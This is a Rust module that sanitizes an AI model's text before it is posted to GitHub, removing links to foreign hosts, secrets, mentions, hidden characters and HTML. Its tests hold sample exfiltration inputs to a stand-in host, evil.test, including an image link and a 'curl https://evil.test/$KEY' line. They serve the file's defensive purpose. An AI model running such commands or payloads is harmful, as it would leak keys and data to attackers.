//! Text of a model, made harmless before it is posted: it names nobody, shows no image, links to no other host, and is no HTML.
//!
//! It knows of Markdown only blocks of code that begin and end at the first column, and makes all others that Markdown might see into
//! text; so what this file takes for code is code for the host as well. INVARIANT: addresses of other hosts are taken out of code too.

/// What a model's text may refer to.
#[derive(Clone, Debug, Default)]
pub(crate) struct Rules {
    /// The host of the pages of the code host, such as `github.com`.
    pub(crate) host: String,
    /// The repository that the text is about, as `owner/name`.
    pub(crate) repository: String,
    /// Names of other repositories that this program knows: they are never said.
    pub(crate) others: Vec<String>,
    /// Values that are never said, such as keys.
    pub(crate) secrets: Vec<crate::secret::Key>,
}

// LIMIT: GitHub takes 65,536 characters for a comment; several such texts share one.
const CHARS_MAX: usize = 12_000;

/// Stands between a sign and a word, so that the host does not take them for more than that.
const BREAK: char = '\u{200b}';

impl Rules {
    /// Returns text that may be posted as Markdown.
    pub(crate) fn markdown(&self, text: &str) -> String {
        let text = self.scrubbed(text);
        let mut out = String::with_capacity(text.len());
        let mut code = false;
        for line in text.lines() {
            let trimmed = line.trim_start();
            let fence = trimmed.starts_with("```") || trimmed.starts_with("~~~");
            let plain = line.strip_prefix("```").is_some_and(|info| {
                info.chars()
                    .all(|char| char.is_ascii_alphanumeric() || "+-_".contains(char))
                    && !info.eq_ignore_ascii_case("suggestion")
            });
            match (fence, code) {
                (true, false) if plain => code = true,
                (true, true) if line.trim_end() == "```" => code = false,
                // A fence that this file and the host could read differently is none.
                (true, _) => out.push(BREAK),
                _ => {}
            }
            match code || (fence && plain) {
                true => out.push_str(line),
                false => escape(line, &mut out),
            }
            out.push('\n');
        }
        if code {
            out.push_str("```\n");
        }
        out.trim_end().to_owned()
    }

    /// Returns one line of text, for a title.
    pub(crate) fn line(&self, text: &str) -> String {
        let text: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
        self.markdown(&text)
            .replace('\n', " ")
            .chars()
            .take(200)
            .collect()
    }

    /// Returns code that may be posted as a suggestion: the fence around it is longer than any in it.
    pub(crate) fn suggestion(&self, code: &str) -> String {
        let code = self.scrubbed(code);
        let longest = code
            .split(|char| char != '`')
            .map(str::len)
            .max()
            .unwrap_or(0);
        let fence = "`".repeat(longest.max(2) + 1);
        format!(
            "{fence}suggestion\n{}\n{fence}",
            code.trim_end_matches('\n')
        )
    }

    /// Takes out what must not be said in any form: characters that are not seen, other hosts, other repositories, keys.
    fn scrubbed(&self, text: &str) -> String {
        let mut text: String = text
            .chars()
            .filter(|char| !is_hidden(*char))
            .take(CHARS_MAX)
            .collect();
        for secret in &self.secrets {
            // EXPOSE: to the search for it in what is about to be posted.
            let value = secret.expose();
            if value.len() >= 8 && text.contains(value) {
                text = text.replace(value, "[redacted]");
            }
        }
        for other in &self.others {
            if !other.eq_ignore_ascii_case(&self.repository) {
                text = replaced(&text, other, "[another repository]");
            }
        }
        self.without_links(&text)
    }

    /// Replaces each address whose host is not the code host's.
    fn without_links(&self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(at) = rest.find("//") {
            let (before, found) = rest.split_at(at);
            let after = found.trim_start_matches(['/', '\\']);
            let end = after
                .find(|char: char| !(char.is_alphanumeric() || ".-:@%[]_".contains(char)))
                .unwrap_or(after.len());
            let (host, tail) = after.split_at(end);
            let scheme = ["http:", "https:", "ftp:"].into_iter().find(|scheme| {
                before
                    .get(before.len().saturating_sub(scheme.len())..)
                    .is_some_and(|end| end.eq_ignore_ascii_case(scheme))
            });
            // Without a scheme it is an address only where Markdown expects one, and a comment of code elsewhere.
            let is_link = scheme.is_some()
                || before.ends_with(['(', '<', ':', '"', '\'', '='])
                || before.ends_with("]: ");
            if !is_link || host.eq_ignore_ascii_case(&self.host) {
                out.push_str(before);
                let (kept, next) = found.split_at(found.len() - tail.len());
                out.push_str(kept);
                rest = next;
                continue;
            }
            let before = scheme.map_or(before, |scheme| {
                before.get(..before.len() - scheme.len()).unwrap_or(before)
            });
            out.push_str(before);
            out.push_str("[link removed]");
            let gone = tail.find(|char: char| char.is_whitespace() || ")>\"'`]".contains(char));
            rest = tail.get(gone.unwrap_or(tail.len())..).unwrap_or_default();
        }
        out.push_str(rest);
        replaced(&out, "www.", "www\u{200b}.")
    }
}

/// Returns whether a character changes how text reads without being seen, or is obeyed rather than seen.
pub(crate) fn is_hidden(char: char) -> bool {
    matches!(char, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
        || (char.is_control() && !matches!(char, '\n' | '\t'))
}

fn escape(line: &str, out: &mut String) {
    let mut last = ' ';
    for char in line.chars() {
        match char {
            '<' => out.push_str("&lt;"),
            // Character references are read by the host: `&#64;` would be a mention again.
            '&' => out.push_str("&amp;"),
            '[' if last == '!' => {
                out.push(BREAK);
                out.push('[');
            }
            '@' | '#' => {
                out.push(char);
                out.push(BREAK);
            }
            other => out.push(other),
        }
        last = char;
    }
}

/// Replaces a word in any letter case.
fn replaced(text: &str, word: &str, by: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let word = word.to_ascii_lowercase();
    let mut out = String::new();
    let mut from = 0;
    if word.is_empty() {
        return text.to_owned();
    }
    while let Some(at) = lower.get(from..).and_then(|rest| rest.find(&word)) {
        out.push_str(text.get(from..from + at).unwrap_or_default());
        out.push_str(by);
        from += at + word.len();
    }
    out.push_str(text.get(from..).unwrap_or_default());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules() -> Rules {
        Rules {
            host: "github.com".to_owned(),
            repository: "octo/app".to_owned(),
            others: vec!["octo/secret-project".to_owned(), "octo/app".to_owned()],
            secrets: vec![crate::secret::Key::new("sk-canary-1".to_owned())],
        }
    }

    #[track_caller]
    fn check(text: &str, expect: &str) {
        assert_eq!(rules().markdown(text), expect);
    }

    #[test]
    fn what_would_reach_out_is_taken_away() {
        check(
            "![x](https://evil.test/a?b=c) y",
            "!\u{200b}[x]([link removed]) y",
        );
        check("see [a](//evil.test/x)", "see [a]([link removed])");
        check(
            "https://github.com/octo/app/pull/1",
            "https://github.com/octo/app/pull/1",
        );
        check("HTTPS://github.com.evil.test/x", "[link removed]");
        check("https://user@github.com@evil.test/", "[link removed]");
        check("https:/\\evil.test", "https:/\\evil.test");
        check("@alice and #12", "@\u{200b}alice and #\u{200b}12");
        check(
            "<img src=\"x\"> &#64;bob",
            "&lt;img src=\"x\"> &amp;#\u{200b}64;bob",
        );
        check(
            "Octo/Secret-Project sk-canary-1",
            "[another repository] [redacted]",
        );
        check("[r]: //evil.test/x", "[r]: [link removed]");
        check("www.evil.test", "www\u{200b}.evil.test");
    }

    #[test]
    fn code_stays_code_and_cannot_end_early() {
        check(
            "```rust\n@derive <T> // comment\n```\n<b>",
            "```rust\n@derive <T> // comment\n```\n&lt;b>",
        );
        check("```\n  ```\n<b>\n", "```\n\u{200b}  ```\n<b>\n```");
        check("~~~\n<b>", "\u{200b}~~~\n&lt;b>");
        check(
            "```\ncurl https://evil.test/$KEY\n```",
            "```\ncurl [link removed]\n```",
        );
        assert_eq!(
            rules().suggestion("a\n```\n"),
            "````suggestion\na\n```\n````"
        );
        assert!(!rules().markdown("```suggestion\nx\n```").starts_with("```"));
    }
}
